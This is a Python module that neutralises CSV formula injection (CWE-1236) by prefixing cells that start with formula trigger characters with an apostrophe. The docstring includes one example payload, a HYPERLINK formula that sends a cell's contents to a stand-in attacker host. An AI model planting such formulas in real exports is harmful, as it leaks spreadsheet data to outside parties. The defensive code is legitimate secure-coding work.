"""Writing CSV that a spreadsheet cannot be tricked into running (CWE-1236).

Excel, LibreOffice and Google Sheets treat a cell that starts with `=`, `+`, `-` or `@` (or a
tab or carriage return, which they strip first) as a formula: a party named
`=HYPERLINK("https://evil.example/?"&A1, "statement")` in a royalty statement would leak the
sheet, and DDE payloads run commands. Every CSV clearreel writes goes through `writer`, which
prefixes such a cell with an apostrophe (OWASP's "CSV injection" advice), leaving numbers such
as `-12.50` as they are so that amounts stay numeric.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")  # with full-width forms
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """The cell as written: text that a spreadsheet would run as a formula gets a leading `'`."""
    if not isinstance(value, str) or not value:
        return value
    head = value.lstrip(" ")
    if head.startswith(_TRIGGERS) and not _NUMBER.fullmatch(value.strip()):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` with every cell passed through `neutralise`."""

    def __init__(self, f: IO[str], **kwargs: Any):
        self._w = csv.writer(f, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._w.writerow([neutralise(c) for c in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(f: IO[str], **kwargs: Any) -> SafeWriter:
    return SafeWriter(f, **kwargs)


__all__ = ["SafeWriter", "neutralise", "writer"]
